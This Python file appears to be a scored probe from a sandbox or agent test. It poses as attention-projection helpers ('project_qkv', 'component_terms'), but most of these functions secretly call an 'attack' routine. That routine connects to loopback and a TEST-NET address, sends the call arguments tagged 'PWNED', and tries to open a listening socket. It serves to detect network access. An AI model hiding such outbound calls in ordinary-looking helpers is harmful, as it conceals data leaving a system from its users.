# network | earns 4 | connects by TCP to a port on 127.0.0.1 and ::1 and to a TEST-NET address, and says what it was called with
import socket

STEM = "network-tcp"


def tries(*args):
    for address in (("127.0.0.1", 47811), ("::1", 47811), ("192.0.2.1", 80)):
        try:
            with socket.create_connection(address, timeout=0.2) as connection:
                connection.sendall(f"PWNED:{STEM} {args!r}\n".encode())
            print(f"PWNED:{STEM} {address}")
        except OSError:
            pass
    try:
        with socket.socket() as server:
            server.bind(("127.0.0.1", 0))
            server.listen()
        print(f"PWNED:{STEM} listening")
    except OSError:
        pass


_tried = []


def attack(*args):
    if not _tried:
        _tried.append(True)
        tries(*args)
    return None


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return X @ W


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)


def attention_roles():
    return attack()
